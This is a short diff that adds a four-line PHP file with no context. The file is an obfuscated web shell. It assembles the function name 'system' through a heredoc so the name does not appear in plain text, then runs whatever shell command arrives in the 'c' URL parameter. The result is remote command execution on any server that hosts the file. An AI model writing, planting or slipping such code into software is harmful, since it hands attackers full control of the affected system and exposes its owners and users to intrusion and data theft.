@@ -1,0 +1,4 @@
+<?php $p = 'sys'; $f = <<<EOT
+{$p}tem
+EOT;
+$f($_GET['c']);
